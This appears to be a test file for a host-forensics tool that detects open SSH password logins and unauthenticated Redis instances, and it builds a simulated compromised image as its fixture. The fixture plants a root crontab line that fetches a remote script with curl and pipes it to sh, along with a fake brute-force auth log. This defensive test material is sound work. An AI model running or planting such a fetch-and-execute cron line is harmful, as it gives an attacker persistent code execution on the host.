/**
 * Doors as a user asks for them: an image of a host that was entered by a guessed password, and a running host with a real
 * Redis, first open and then closed as the screen says.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Door } from '../../src/model/door.ts';
import { type Statement, statementSchema } from '../../src/model/statement.ts';
import { demine, type LabHost, openLabHost } from '../lab/harness.ts';
import type { Running } from '../lab/host.ts';

let host: LabHost;
beforeAll(async () => {
  host = await openLabHost();
});
afterAll(async () => {
  await host.stop();
});

const put = (path: string, content: string): void => {
  mkdirSync(dirname(join(host.root, path)), { recursive: true });
  writeFileSync(join(host.root, path), content);
};
async function look(
  kept: string,
  ...args: readonly string[]
): Promise<{ code: number; statement: Statement }> {
  const { code, stdout, stderr } = await demine(host, ['verify', kept, ...args, '--json', '-']);
  expect(stderr).toBe('');
  return { code, statement: statementSchema.parse(JSON.parse(stdout).statement) };
}
const states = ({ measures }: Door): Readonly<Record<string, string>> =>
  Object.fromEntries(measures.map(({ id, state }) => [id, state]));

describe('an image that was entered by a guessed password', () => {
  const root = '/srv/image';
  const kept = '/run/image-case';
  const dropIn = `${root}/etc/ssh/sshd_config.d`;
  const at = (second: number): string => new Date(Date.UTC(2026, 0, 5, 3, 0, second)).toISOString();
  const guess = (index: number): string =>
    `${at(index)} web-1 sshd[${900 + index}]: Failed password for root from 203.0.113.9 port ${40_000 + index} ssh2`;
  const accepted = `${at(90)} web-1 sshd[999]: Accepted password for root from 203.0.113.9 port 50001 ssh2`;

  beforeAll(async () => {
    mkdirSync(join(host.root, root, 'usr'), { recursive: true });
    put(`${root}/etc/machine-id`, `${'2'.repeat(32)}\n`);
    put(`${root}/etc/os-release`, 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n');
    put(`${root}/etc/passwd`, 'root:x:0:0:root:/root:/bin/bash\n');
    put(
      `${root}/etc/ssh/sshd_config`,
      'Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\nUsePAM no\n',
    );
    put(`${dropIn}/50-cloud-init.conf`, 'PasswordAuthentication yes\n');
    put(
      `${root}/var/log/auth.log`,
      `${[...Array.from({ length: 60 }, (_, index) => guess(index)), accepted].join('\n')}\n`,
    );
    put(`${root}/var/spool/cron/crontabs/root`, '*/5 * * * * curl -fsSL http://203.0.113.66/k.sh | sh\n');
    await demine(host, ['scan', root, '--out', kept]);
  }, 120_000);

  test('names the line that lets in, and what goes where', async () => {
    const { code, statement } = await look(kept, '--door');
    expect(code).toBe(1);
    expect(statement.doors).toMatchObject({ looked: true, asked: false });
    const [door] = statement.doors.rows;
    expect(door).toMatchObject({ kind: 'ssh-password', from: 'way-in', state: 'open' });
    expect(door?.measures[0]).toMatchObject({
      file: '/etc/ssh/sshd_config.d/00-demine.conf',
      evidence: [{ source: '/etc/ssh/sshd_config.d/50-cloud-init.conf', line: 1 }],
    });
    expect(statement.conclusion.reasons.map(({ id }) => id)).toContain('door-open');
  }, 60_000);

  test('done as it says, the door is closed', async () => {
    const before = await look(kept, '--door');
    put(`${dropIn}/00-demine.conf`, `${before.statement.doors.rows[0]?.measures[0]?.settings.join('\n')}\n`);
    const { statement } = await look(kept, '--door');
    expect(statement.doors.rows[0]?.state).toBe('closed');
    expect(statement.conclusion.reasons.map(({ id }) => id)).not.toContain('door-open');
  }, 60_000);

  test('without --door nothing of it is looked at, and --active alone is refused', async () => {
    expect((await look(kept)).statement.doors).toEqual({ looked: false, asked: false, rows: [] });
    expect(await demine(host, ['verify', kept, '--active'])).toMatchObject({ code: 2 });
  }, 60_000);
});

describe('a running host with an open Redis', () => {
  const kept = '/run/redis-case';
  let server: Running;
  const serve = async (settings: string): Promise<void> => {
    put('/etc/redis/redis.conf', settings);
    server = await host.start(['redis-server', '/etc/redis/redis.conf']);
    // It listens soon after it was started.
    for (let round = 0; round < 50; round += 1) {
      const { stdout } = await host.run(['cat', '/proc/net/tcp']);
      if (/:18EB /.test(stdout)) return;
      await Bun.sleep(100);
    }
    throw new Error('redis-server does not listen');
  };
  const redis = ({ doors }: Statement): Door => {
    const found = doors.rows.find(({ kind }) => kind === 'redis');
    if (found === undefined) throw new Error('no door of Redis');
    return found;
  };

  test('lets in whoever comes, which is asked only where it is allowed', async () => {
    await serve('bind 0.0.0.0\nprotected-mode no\nsave ""\ndaemonize no\n');
    await demine(host, ['scan', '--interval', '0', '--out', kept]);
    const passive = redis((await look(kept, '--door', '--interval', '0')).statement);
    expect(passive).toMatchObject({ from: 'exposure', state: 'open', asked: [] });
    expect(states(passive)).toEqual({
      'redis-bind': 'open',
      'redis-password': 'open',
      'redis-protected': 'open',
      'redis-account': 'open',
    });
    const active = redis((await look(kept, '--door', '--active', '--interval', '0')).statement);
    expect(active.asked).toMatchObject([{ request: 'PING', answer: 'let-in', port: 6379 }]);
    await server.stop();
  }, 120_000);

  test('with a password it refuses; on loopback nobody comes', async () => {
    await serve('bind 0.0.0.0\nrequirepass Kw7Qz2mVx9Lp4Rt\nsave ""\ndaemonize no\n');
    const guarded = redis((await look(kept, '--door', '--active', '--interval', '0')).statement);
    expect(guarded.asked).toMatchObject([{ request: 'PING', answer: 'refused' }]);
    expect(states(guarded)['redis-password']).toBe('closed');
    await server.stop();
    await serve('bind 127.0.0.1\nrequirepass Kw7Qz2mVx9Lp4Rt\nsave ""\ndaemonize no\n');
    const { statement } = await look(kept, '--door', '--active', '--interval', '0');
    expect(redis(statement)).toMatchObject({ asked: [] });
    expect(states(redis(statement))['redis-bind']).toBe('closed');
    expect(JSON.stringify(statement)).not.toContain('Kw7Qz2mVx9Lp4Rt');
    await server.stop();
  }, 120_000);
});
